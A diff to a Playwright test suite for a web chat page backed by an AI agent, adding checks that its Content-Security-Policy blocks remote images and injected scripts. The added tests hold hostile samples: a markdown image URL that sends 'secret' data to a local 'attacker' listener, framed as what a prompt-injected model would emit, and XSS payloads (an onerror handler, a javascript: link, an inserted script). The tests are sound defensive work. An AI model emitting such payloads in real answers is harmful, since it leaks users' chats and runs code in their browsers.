@@ -1,6 +1,8 @@
 """The chat page in headless Chromium (Debian's package, driven by Playwright) against a real server:
 sign in, pick an agent, send a message, watch the answer stream, stop it, reload mid-answer; tool
-calls shown live and after a reload; the answer's markdown rendered, and rendered inert when hostile."""
+calls shown live and after a reload; the answer's markdown rendered, and rendered inert when hostile; under
+the page's Content-Security-Policy, an answer's images are links never fetched and a script that got into
+the page doesn't run."""
 
 from __future__ import annotations
 
@@ -9,6 +11,7 @@ import os
 import shutil
 import subprocess
 import sys
+import time
 import uuid
 from contextlib import contextmanager
 
@@ -16,6 +19,7 @@ import pytest
 from django.conf import settings
 
 from config.testing.fake_anthropic import Reply, ToolUse, fake_anthropic_server
+from config.testing.listener import recording_listener
 from config.testing.processes import database_url_for_children, http_json, require, running_server
 
 pytestmark = pytest.mark.django_db(transaction=True)
@@ -82,6 +86,16 @@ def page():
 ANSWER = "document.querySelector('.msg.assistant .md')?.textContent.trim()"
 
 
+def wait_until(page, expression: str, timeout: float = 30) -> None:
+    """Playwright's wait_for_function without its eval(), which the page's Content-Security-Policy
+    refuses: the expression is evaluated through the DevTools protocol, as page.evaluate does."""
+    deadline = time.monotonic() + timeout
+    while not page.evaluate(expression):
+        if time.monotonic() > deadline:
+            raise AssertionError(f"Still false after {timeout} s: {expression}")
+        page.wait_for_timeout(50)
+
+
 def sign_in(page, base: str, email: str) -> None:
     page.goto(f"{base}/chat/")
     assert "/accounts/login/" in page.url
@@ -100,7 +114,7 @@ def test_a_person_signs_in_sends_a_message_sees_it_stream_and_stops_it(site, pag
     page.fill("#prompt", "Say something slowly")
     page.click("#send")
     page.wait_for_selector(".msg.user >> text=Say something slowly")
-    page.wait_for_function(f"{ANSWER} === 'Streaming words'")
+    wait_until(page, f"{ANSWER} === 'Streaming words'")
     assert page.is_visible("#stop")
 
     page.click("#stop")
@@ -122,13 +136,13 @@ def test_a_reload_mid_answer_shows_what_was_said_and_the_rest_as_it_arrives(site
     sign_in(page, base, email)
     page.fill("#prompt", "Keep going")
     page.click("#send")
-    page.wait_for_function(f"{ANSWER} === 'Before the reload,'")
+    wait_until(page, f"{ANSWER} === 'Before the reload,'")
     fake.wait_until_paused()
 
     page.reload()
-    page.wait_for_function(f"{ANSWER} === 'Before the reload,'")
+    wait_until(page, f"{ANSWER} === 'Before the reload,'")
     fake.release()
-    page.wait_for_function(f"{ANSWER} === 'Before the reload, after the reload.'")
+    wait_until(page, f"{ANSWER} === 'Before the reload, after the reload.'")
     page.wait_for_selector(".msg.assistant:not(.streaming)")
     assert page.locator(".msg.user").count() == 1
     assert page.locator(".msg.assistant").count() == 1
@@ -145,7 +159,7 @@ def test_a_tool_call_shows_its_name_input_and_result_live_and_after_a_reload(too
     page.fill("#prompt", "What does it mean?")
     page.click("#send")
     page.wait_for_selector(".msg.assistant:not(.streaming) .tool-call:not(.running)")
-    page.wait_for_function("document.querySelectorAll('.msg.assistant .md').length === 2")
+    wait_until(page, "document.querySelectorAll('.msg.assistant .md').length === 2")
 
     def check_the_answer() -> None:
         page.wait_for_selector(".msg.assistant details.tool-call")  # the bubble may be re-rendered meanwhile
@@ -218,3 +232,57 @@ def test_html_and_script_urls_in_an_answer_are_rendered_inert(site, page):
     page.reload()
     page.wait_for_selector(".msg.assistant .md:not(:empty)")  # the stored answer rendered again
     check_inert()
+
+
+# --- the page's Content-Security-Policy (issue 33, item 11) ----------------------------------------
+
+
+def test_an_answers_remote_image_is_shown_as_a_link_and_never_fetched(site, page):
+    base, email, fake, _ = site
+    with recording_listener() as attacker:  # where a prompt-injected model would send the chat
+        leak = f"http://127.0.0.1:{attacker.port}/leak?secret=1"
+        fake.script(Reply(text=[f"Here it is: ![x]({leak}) and more."]))
+        sign_in(page, base, email)
+        page.fill("#prompt", "Show me a picture")
+        page.click("#send")
+
+        def check_a_link_and_nothing_fetched() -> None:
+            page.wait_for_selector(".msg.assistant:not(.streaming) .md:not(:empty)")
+            page.wait_for_timeout(500)  # time for an image to be fetched, were there one
+            assert attacker.accepted == 0
+            assert page.locator(".msg img").count() == 0
+            link = page.locator(".msg.assistant .md a.image-link")
+            assert link.get_attribute("href") == leak
+            assert link.inner_text() == f"x ({leak})"
+
+        check_a_link_and_nothing_fetched()
+        response = page.reload()  # the stored answer, rendered again
+        assert "img-src 'self' data:" in response.headers["content-security-policy"]
+        check_a_link_and_nothing_fetched()
+
+
+def test_a_script_that_got_past_the_sanitizer_still_does_not_run(site, page):
+    """The policy is the second line of defence: here the sanitizer is taken to have failed, and an
+    answer's hostile HTML is written into the page as it came."""
+    base, email, fake, _ = site
+    fake.script(Reply(text=["A harmless answer."]))
+    sign_in(page, base, email)
+    page.fill("#prompt", "Hello")
+    page.click("#send")
+    page.wait_for_selector(".msg.assistant:not(.streaming) .md")
+    refused = []
+    page.on("console", lambda message: "Content Security Policy" in message.text and refused.append(message.text))
+
+    page.evaluate("""() => {
+      const answer = document.querySelector(".msg.assistant .md");
+      answer.innerHTML = `<img src="x" onerror="window.__xss = 'handler'">
+        <a id="js" href="javascript:void(window.__xss = 'url')">see</a>`;
+      const script = document.createElement("script");
+      script.textContent = "window.__xss = 'script'";
+      answer.append(script);
+    }""")
+    page.click("#js")
+    page.wait_for_timeout(500)
+
+    assert page.evaluate("window.__xss") is None
+    assert len(refused) >= 3, refused  # the handler, the script and the javascript: URL, each refused
